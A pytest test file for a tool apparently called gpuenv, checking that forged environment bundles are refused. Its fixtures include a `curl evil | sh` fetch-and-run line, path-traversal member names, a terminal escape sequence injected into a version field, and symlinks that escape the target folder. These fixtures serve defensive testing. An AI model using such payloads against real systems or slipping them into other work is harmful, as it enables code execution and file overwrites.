"""Forged bundles: whole files with valid checksums and seal (anyone can make those) that name a path, a
member or an image they must not. Each is refused by a real `gpuenv load` process with exit 2 and a clear
message, before the engine (there is none here) and with nothing written anywhere."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gpuenv.bundle.format import Forged
from gpuenv.bundle.verify import verify

from .helpers import make_bundle, rebuild
from .test_cli_refusals import gpuenv


def _tree(root: Path) -> list[str]:
    """Every path under root but the user's cache folder (where any command keeps gpuenv's parse cache of
    its own knowledge tables, kb/tables.py: nothing of the bundle's)."""
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if ".cache" not in p.relative_to(root).parts)


def _refused(tmp_path: Path, forged: Path, *args: str, said: str) -> None:
    """`gpuenv load` run from tmp_path/cwd: exit 2, the message, no traceback, nothing new under tmp_path."""
    cwd = tmp_path / "cwd"
    cwd.mkdir(exist_ok=True)
    before = _tree(tmp_path)
    run = gpuenv("load", str(forged), *args, cwd=cwd)
    assert run.returncode == 2, run.stderr
    assert said in run.stderr and "hint:" in run.stderr and "Traceback" not in run.stderr, run.stderr
    assert _tree(tmp_path) == before


@pytest.mark.parametrize("name", ["../escaped", "a/b", "/tmp/gpuenv-forged-abs", "..", ".", "Demo", "x" * 64,
                                  "demo\nx", ""])
def test_a_name_that_is_no_environment_name_is_refused(tmp_path: Path, name: str) -> None:
    bundle = make_bundle(tmp_path)
    forged = rebuild(bundle, tmp_path / "forged.gpuenv", lambda d: d.update(name=name))
    _refused(tmp_path, forged, said="which is not an environment name")
    assert not Path("/tmp/gpuenv-forged-abs").exists()


@pytest.mark.parametrize("member", ["files/../escaped.txt", "files//tmp/gpuenv-forged.txt", "files/./x.txt",
                                    "files/a//b.txt", "files/x\n.txt", "files/x\\..\\y", "context/../gpuenv.toml",
                                    "extra.sh", "files/.."])
def test_a_member_path_outside_its_folder_is_refused(tmp_path: Path, member: str) -> None:
    bundle = make_bundle(tmp_path)
    forged = rebuild(bundle, tmp_path / "forged.gpuenv", members={member: b"echo owned\n"})
    with pytest.raises(Forged, match="not a plain relative path|no gpuenv bundle has"):
        verify(forged)
    _refused(tmp_path, forged, said="gpuenv save` never writes this")
    assert not Path("/tmp/gpuenv-forged.txt").exists()


def test_a_file_the_spec_does_not_name_is_refused(tmp_path: Path) -> None:
    """Only the spec's requirements file is written: a bundle carrying another (a script next to the spec,
    a .bashrc...) is not one save wrote."""
    bundle = make_bundle(tmp_path)
    forged = rebuild(bundle, tmp_path / "forged.gpuenv", members={"files/.gpuenv/start.sh": b"curl evil | sh\n"})
    _refused(tmp_path, forged, "--into", str(tmp_path / "into"),
             said="carries files its gpuenv.toml does not name (files/.gpuenv/start.sh)")


def test_a_symlink_in_the_target_folder_does_not_lead_the_write_outside(tmp_path: Path) -> None:
    bundle = make_bundle(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    into = tmp_path / "into"
    into.mkdir()
    (into / "deps").symlink_to(outside)
    _refused(tmp_path, bundle, "--into", str(into), said="leads outside")
    assert list(outside.iterdir()) == []
    (into / "deps").unlink()
    (into / "gpuenv.toml").symlink_to(outside / "x")
    _refused(tmp_path, bundle, "--into", str(into), said="is a symlink or not a plain file")


@pytest.mark.parametrize("edit,said", [
    (lambda d: d["image"].update(tag="python:3.11-slim-bookworm"), "not the tag its own build files give it"),
    (lambda d: d["image"].update(tag="gpuenv-base/debian:bookworm"), "not the tag its own build files give it"),
    (lambda d: d["image"].update(id="--help"), "which is not an image ID"),
    (lambda d: d["image"].update(id="sha256:abc"), "which is not an image ID"),
    (lambda d: d.update(bases=[{"tag": "python:3.11-slim-bookworm", "id": "sha256:" + "ef" * 32}]),
     "that no FROM line of its Dockerfile names"),
    (lambda d: d.update(bases=[{"tag": "gpuenv-base/debian:bookworm", "id": "latest"}]), "which is not an image ID"),
    (lambda d: d.update(user=None), "names no valid UID/GID"),
    (lambda d: d["requires"].update(min_driver="\x1b]0;owned\x07525"), "not plain versions or names"),
    (lambda d: d["requires"].update(gpu_archs=["sm_90", "[red]x"]), "not plain versions or names"),
])
def test_an_image_name_or_id_the_build_files_do_not_give_is_refused(tmp_path: Path, edit, said: str) -> None:
    bundle = make_bundle(tmp_path)
    forged = rebuild(bundle, tmp_path / "forged.gpuenv", edit)
    with pytest.raises(Forged, match=said):
        verify(forged)
    _refused(tmp_path, forged, said=said)


def test_an_unforged_bundle_still_passes(tmp_path: Path) -> None:
    """The checks refuse forgeries, not what save writes: rebuilt without a change, it verifies."""
    bundle = make_bundle(tmp_path)
    same = rebuild(bundle, tmp_path / "same.gpuenv")
    assert json.loads(verify(same).manifest_bytes)["name"] == "demo"


def test_files_whose_paths_collide_are_refused(tmp_path: Path) -> None:
    """files/deps/requirements.txt and files/deps (a file where the folder must be): bad input, no traceback."""
    bundle = make_bundle(tmp_path)
    forged = rebuild(bundle, tmp_path / "forged.gpuenv", members={"files/deps": b"x\n"})
    _refused(tmp_path, forged, "--into", str(tmp_path / "into"), said="gpuenv save` never writes this")
